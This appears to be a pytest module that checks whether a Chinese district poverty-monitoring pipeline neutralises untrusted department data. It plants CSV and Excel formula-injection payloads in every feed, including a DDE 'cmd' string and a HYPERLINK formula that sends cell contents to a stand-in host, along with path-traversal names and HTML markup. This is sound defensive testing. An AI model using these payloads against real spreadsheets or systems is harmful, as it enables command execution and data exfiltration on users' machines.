"""Department text reaches the townships and the bureau as the text it is.

A small district whose every text field, in every feed, holds what a spreadsheet would
evaluate (``=HYPERLINK(…)``, ``-1+1+cmd|' /C calc'!A0``, ``+…``, ``@…``), whose township
names are paths (``../../faults-escape:*?``, 300 characters), one of whose township codes
is a path too, and whose one business has a name of a megabyte. Two days are run (the 1st of the month, for the elimination list, and
a later day on which alerts are overdue, a returned workbook is rejected and the report
is drawn); every output is then read back as a user's spreadsheet program would read it.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from pipeline.alerts.rules import load_rules
from pipeline.dispatch.publish import DayResult
from pipeline.dispatch.township_workbook import DETAIL_COLUMNS, DETAIL_SHEET
from pipeline.feeds.inbox import write_marker
from pipeline.feeds.registry import FeedSpec, load_registry
from pipeline.settings import load_settings
from pipeline.steps import run_day
from tests.conftest import person_id, write_delivery
from tests.feeds.test_sql_source import FrontEnd

D1 = date(2026, 3, 1)  # the 1st: the elimination list is made
D2 = date(2026, 3, 16)  # red and orange alerts of D1 are overdue

# What Excel or WPS would evaluate; the first two are the issue's own.
HYPERLINK = '=HYPERLINK("http://x.example/?q="&H2,"许…")'
CALC = "-1+1+cmd|' /C calc'!A0"
PLUS = "+1+1"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Township names that are paths, one with markup for the HTML report.
TOWN_1 = "=1+1<b>梅村镇</b>"
TOWN_2 = "../../faults-escape:*?"
TOWN_3 = "长" * 300
# A megabyte of business name (UTF-8).
HUGE_NAME = "商" * 333_334
CELL_MAX_CHARS = 32_767

T1, T2, T3 = "341702101", "341702102", "341702103"
V1, V2, V3, V4 = f"{T1}201", f"{T1}202", f"{T2}201", f"{T3}201"


def household(
    number: int,
    village: str,
    head_id: str,
    *,
    kind: str = "一般农户",
    monitored_since: str | None = None,
    income: float = 60_000,
    size: int = 2,
    township_code: str | None = None,
) -> list[Any]:
    township = village[:9]
    monitored = kind == "监测户"
    return [
        f"{village}{number:04d}",
        [HYPERLINK, CALC, PLUS, AT][number % 4],
        head_id,
        township_code or township,
        {T1: TOWN_1, T2: TOWN_2, T3: TOWN_3}[township],
        village,
        {V1: CALC, V2: PLUS, V3: "=三村", V4: "@四村"}[village],
        AT,
        f"{village}G01",
        kind,
        "脱贫不稳定户" if monitored else None,
        "未消除" if monitored else None,
        monitored_since,
        size,
        income,
        "=13812345678",
    ]


def member(household_id: str, id_number: str, relation: str, skill: str = "普通劳动力"):
    return [
        household_id,
        HYPERLINK,
        id_number,
        relation,
        "男",
        skill,
        "健康",
        None,
        "非在校生",
        "未务工",
    ]


def grids() -> list[list[Any]]:
    rows: list[list[Any]] = [["341702", "区级", None, PLUS, AT, "=0566-1234567"]]
    for township in (T1, T2, T3):
        rows.append([township, "乡镇级", "341702", CALC, HYPERLINK, "=13900001111"])
    for village in (V1, V2, V3, V4):
        rows.append([village, "村级", village[:9], AT, PLUS, "+13900002222"])
        rows.append([f"{village}G01", "组级", village, HYPERLINK, CALC, "-13900003333"])
    return rows


def deliver(inbox: Path, spec: FeedSpec, rows: list[list[Any]]) -> None:
    path = write_delivery(inbox, spec, D1, rows)
    if spec.format == "xlsx":
        # openpyxl took the text starting with "=" for formulas; an export holds it as text.
        book = openpyxl.load_workbook(path)
        for row in book.active.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
        book.save(path)
        write_marker(path, len(rows))


def shown(text: str) -> str:
    """The text as loaded (NFKC: "…" becomes "...")."""
    return unicodedata.normalize("NFKC", text)


def returned_workbook(path: Path, alert_id: str) -> None:
    """A township's returned workbook naming an alert that does not exist."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = DETAIL_SHEET
    sheet.append([column.header for column in DETAIL_COLUMNS])
    row = [None] * len(DETAIL_COLUMNS)
    row[0], row[-4], row[-3], row[-2] = alert_id, "属实-已纳入监测", CALC, "2026-03-10"
    sheet.append(row)
    path.parent.mkdir(parents=True, exist_ok=True)
    book.save(path)


@pytest.fixture(scope="module")
def district(tmp_path_factory: pytest.TempPathFactory) -> dict[date, DayResult]:
    root = tmp_path_factory.mktemp("untrusted")
    inbox = root / "inbox"
    registry = load_registry()
    ids = {key: person_id(number) for number, key in enumerate("abcdefghijk")}
    child = person_id(20, birth=date(2013, 9, 1))
    h = {n: f"{village}{n:04d}" for n, village in ((1, V1), (2, V1), (3, V1), (4, V1))}
    h |= {5: f"{V2}0005", 6: f"{V3}0006", 7: f"{V4}0007"}
    recent = D1 - timedelta(days=2)
    feeds: dict[str, list[list[Any]]] = {
        "households": [
            # the head's 低保 stopped, the spouse (a labourer) died; and water
            household(1, V1, ids["a"], kind="监测户", monitored_since="2025-01"),
            # a family business closed: the business of a megabyte's name
            household(2, V1, ids["c"]),
            # a company and a car: eligibility review; and water
            household(3, V1, ids["d"], kind="监测户", monitored_since="2025-01"),
            # a child out of school, a labourer unemployed
            household(4, V1, ids["e"], kind="脱贫户"),
            # monitored long enough, income above the line: an elimination candidate
            household(5, V2, ids["g"], kind="监测户", monitored_since="=2024-06"),
            # an unsafe house; a disaster in the township
            household(6, V3, ids["h"]),
            # income below the line
            household(7, V4, ids["i"], income=5_000),
            # a township code that is a path: quarantined, never in a file name
            household(8, V4, ids["j"], income=5_000, township_code="../34170"),
        ],
        "members": [
            member(h[1], ids["a"], "户主"),
            member(h[1], ids["b"], "配偶"),
            member(h[2], ids["c"], "户主"),
            member(h[3], ids["d"], "户主"),
            member(h[4], ids["e"], "户主"),
            member(h[4], child, "之子", "无劳动力"),
            member(h[5], ids["g"], "户主"),
            member(h[6], ids["h"], "户主"),
            member(h[7], ids["i"], "户主"),
        ],
        "grids": grids(),
        "civil_assistance": [
            [ids["a"], CALC, "低保", "停保", recent, 500, HYPERLINK],
            # quarantined (an ID number that is none): in the quarantine list as it came
            ["=12345", AT, "低保", "新增", recent, 500, PLUS],
        ],
        "police_hukou": [[ids["b"], PLUS, "死亡注销", recent, HYPERLINK]],
        "market_entities": [
            ["92341702MA2T0001XA", HUGE_NAME, "个体工商户", ids["c"], AT, None, "注销", recent],
            ["91341702MA2T0002XB", CALC, "有限责任公司", ids["d"], PLUS, 50, "存续", recent],
        ],
        "police_vehicles": [
            ["=皖R12345", ids["d"], AT, "小型轿车", "非营运", date(2020, 5, 1), "正常"]
        ],
        "edu_students": [[child, PLUS, HYPERLINK, "初中", "+初二", "辍学", recent, AT]],
        "hrss_employment": [[ids["e"], HYPERLINK, "失业登记", CALC, None, recent]],
        "water_supply": [["-W1", V1, AT, "停水", D1 - timedelta(days=20), None, 60]],
        "housing_safety": [[ids["h"], PLUS, HYPERLINK, "C级", D1 - timedelta(days=30), "未改造"]],
        "disaster_events": [["=EVENT1", "洪涝", T2, None, recent, 30, 12.5, "较大"]],
        "med_enrollment": [
            [id_number, CALC, 2026, "正常参保", "无", HYPERLINK]
            for id_number in (*ids.values(), child)
        ],
        "applications": [
            ["=APP1", h[1], ids["a"], HYPERLINK, V1, recent, "因病", "是"],
            ["-APP2", None, ids["k"], CALC, V2, recent, "其他", "否"],
        ],
        # the grid's own words, quoted in the grid_report alert's reason
        "grid_reports": [[f"{V3}G01", h[6], recent, "家庭变故", HYPERLINK, CALC]],
        # a lead matched by ID number (its summary in the reason), and one matched to nobody
        # (in leads_unmatched.csv as it came)
        "leads": [
            ["=XS1", "信访", recent, "户主六", ids["h"], TOWN_2, "=三村", PLUS, HYPERLINK],
            ["+XS2", "12317", recent, "无此人", None, CALC, AT, "-1", CALC],
        ],
    }
    assert set(feeds) | {"med_claims"} == set(registry), "every feed carries planted values"
    for feed, rows in feeds.items():
        deliver(inbox, registry[feed], rows)
    url = f"sqlite:///{root / 'frontend.sqlite'}"
    claim = {
        "SFZH": ids["a"],
        "XM": HYPERLINK,
        "JSRQ": recent,
        "JZLX": "普通门诊",
        "YLJGMC": CALC,
        "ZDMC": PLUS,
        "ZFY": 200,
        "TCZF": 100,
        "DBZF": 0,
        "JZZF": 0,
        "GRZF": 100,
        "CXBZ": "0",
        "YJSLSH": None,
    }
    # The second is quarantined (an ID number that is none); the view's key names it.
    FrontEnd(url).post({**claim, "JSLSH": "S1"}, {**claim, "JSLSH": "=CLAIM2", "SFZH": "=1"})
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PIPELINE_MED_CLAIMS_URL", url)
        settings = load_settings(root / "home", inbox)
        first = run_day(settings, D1)
        returned_workbook(inbox / "feedback" / f"{T1}_returned.xlsx", AT)
        returned_workbook(inbox / "feedback" / "-1+2.xlsx", PLUS)
        patch.setenv("PIPELINE_DAILY_REPORT", "true")  # the report shows department text too
        second = run_day(settings, D2)
    return {D1: first, D2: second}


def outbox_files(results: dict[date, DayResult]) -> list[Path]:
    return [path for result in results.values() for path in sorted(result.outbox.rglob("*"))]


def csv_rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def workbook_cells(path: Path):
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


def test_every_output_was_written(district):
    names = {
        path.relative_to(result.outbox).as_posix()
        for result in district.values()
        for path in result.outbox.rglob("*")
    }
    for name in (
        "alerts.csv",
        "overdue.csv",
        "regional_alerts.csv",
        "comparisons.csv",
        "elimination_candidates.csv",
        "quarantine.csv",
        "feedback_rejections.csv",
        "report.html",
    ):
        assert name in names
    assert any(name.startswith("townships/") for name in names)
    assert any(name.startswith("comparisons/") for name in names)
    assert csv_rows(district[D2].outbox / "overdue.csv"), "overdue alerts listed"
    assert csv_rows(district[D1].outbox / "elimination_candidates.csv"), "a candidate listed"
    assert csv_rows(district[D2].outbox / "feedback_rejections.csv"), "a returned row rejected"


def test_no_csv_field_is_taken_for_a_formula(district):
    checked = 0
    for path in outbox_files(district):
        if path.suffix != ".csv":
            continue
        for row in csv_rows(path):
            for column, value in row.items():
                assert not value.startswith(FORMULA_STARTS), (path.name, column, value[:80])
                checked += 1
    assert checked


def test_csv_keeps_the_text_after_a_leading_quote(district):
    """A spreadsheet shows the value as typed; the quote only stops its evaluation."""
    regional = csv_rows(district[D1].outbox / "regional_alerts.csv")
    assert [row["scope_name"] for row in regional if row["rule"] == "water"] == [f"'{CALC}"]
    comparisons = csv_rows(district[D1].outbox / "comparisons.csv")
    assert {row["application_id"] for row in comparisons} == {"'=APP1", "'-APP2"}
    overdue = csv_rows(district[D2].outbox / "overdue.csv")
    assert {row["township_head"] for row in overdue} == {f"'{shown(HYPERLINK)}"}
    rejected = csv_rows(district[D2].outbox / "feedback_rejections.csv")
    assert {row["file"] for row in rejected} == {f"{T1}_returned.xlsx", "'-1+2.xlsx"}
    assert f"'{AT}" in {row["alert_id"] for row in rejected}
    quarantine = csv_rows(district[D1].outbox / "quarantine.csv")
    assert "'=CLAIM2" in {row["row"] for row in quarantine}
    alerts = csv_rows(district[D1].outbox / "alerts.csv")
    assert any(
        shown(HYPERLINK) in row["reasons"] for row in alerts
    )  # the 停保 reason, inside the text
    # Numbers stay numbers: the figure and the row numbers are never quoted.
    assert all(row["figure"].lstrip("-").isdigit() for row in regional)


def test_no_workbook_cell_is_a_formula(district):
    books = [path for path in outbox_files(district) if path.suffix == ".xlsx"]
    # The township and comparison workbooks, and on the 1st the month's assessment.
    assert {
        path.parent.name if path.parent.name in ("townships", "comparisons") else path.stem[:11]
        for path in books
    } == {"townships", "comparisons", "assessment_"}
    planted = set()
    for path in books:
        for sheet, cell in workbook_cells(path):
            assert cell.data_type != "f", (path.name, sheet, cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                planted.add(cell.value)
    # The names are shown as they were typed, as text.
    assert {shown(HYPERLINK), CALC, PLUS, AT} <= planted
    assert "=APP1" in planted  # the comparison workbook's application id


def test_township_names_never_leave_the_townships_folder(district):
    for result in district.values():
        outbox = result.outbox.resolve()
        for path in result.outbox.rglob("*"):
            assert path.resolve().is_relative_to(outbox)
            relative = path.relative_to(result.outbox)
            if path.is_dir():
                assert relative.as_posix() in ("townships", "comparisons")
            elif len(relative.parts) > 1:
                assert relative.parent.as_posix() in ("townships", "comparisons"), relative
        books = sorted((result.outbox / "townships").iterdir())
        assert [path.name[:10] for path in books] == [f"{T1}_", f"{T2}_", f"{T3}_"]
        for path in books:
            assert path.is_file()
            assert len(path.name.encode("utf-8")) < 200
            assert path.name.endswith(f"_{result.business_date:%Y%m%d}.xlsx")
        # the folder the township name asked for was never made, nor one for a bad code
        assert not any(result.outbox.parent.glob("faults-escape*"))
        assert not any(result.outbox.glob("faults-escape*"))


def test_a_township_code_is_nine_digits_before_it_names_a_file(district):
    quarantine = csv_rows(district[D1].outbox / "quarantine.csv")
    bad = [row for row in quarantine if row["feed"] == "households" and "../34170" in row["raw"]]
    assert [row["reason"] for row in bad] == ["乡镇代码应为9位数字"]


def test_a_huge_business_name_leaves_the_suggested_help_whole(district):
    alerts = csv_rows(district[D1].outbox / "alerts.csv")
    failure = [row for row in alerts if row["category"] == "business_failure"]
    assert len(failure) == 1
    reason = failure[0]["reasons"]
    assert reason.endswith(
        "。建议帮扶：" + "、".join(load_rules().categories["business_failure"].help)
    )
    assert f"原文 {len(HUGE_NAME)} 字" in reason
    assert len(reason) < 5_000
    assert reason.split("”于")[1].startswith(f"{D1 - timedelta(days=2)}注销")
    for path in outbox_files(district):
        if path.suffix == ".xlsx":
            for sheet, cell in workbook_cells(path):
                assert len(str(cell.value)) <= CELL_MAX_CHARS, (path.name, sheet, cell.coordinate)
        elif path.suffix == ".csv":
            for row in csv_rows(path):
                for column, value in row.items():
                    if column != "raw":  # the quarantined row as it arrived
                        assert len(value) <= CELL_MAX_CHARS, (path.name, column)


def test_the_report_shows_department_text_escaped(district):
    page = (district[D2].outbox / "report.html").read_text(encoding="utf-8")
    assert "<b>梅村镇</b>" not in page
    assert "&lt;b&gt;梅村镇&lt;/b&gt;" in page
